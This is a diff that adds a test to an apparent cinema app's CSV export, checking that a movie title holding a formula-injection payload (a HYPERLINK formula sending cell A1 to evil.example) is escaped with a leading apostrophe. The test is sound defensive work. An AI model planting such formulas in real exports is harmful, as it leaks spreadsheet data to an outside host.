@@ -210,3 +210,15 @@ def test_the_weekday_csv_lists_all_seven_days(staff_client, week):
 
     keys = [line[0] for line in csv.reader(io.StringIO(response.content.decode()))][1:]
     assert keys == list(EXPECTED_WEEKDAY)
+
+
+def test_the_csv_export_never_carries_a_live_formula_from_a_movie_title(staff_client, week):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    ShowtimeFactory(movie__title=evil, starts_at=local(week.monday, 15))
+
+    response = staff_client.get(EXPORT, week_query(week, "movie"))
+
+    rows = {line[1]: line for line in csv.reader(io.StringIO(response.content.decode("utf-8")))}
+    assert set(rows) == {"label", "Alpha", "Bravo", "'" + evil}
+    # The numbers beside it are untouched.
+    assert rows["'" + evil][2:] == ["1", "0", "0", "0.00", "0.0000"]
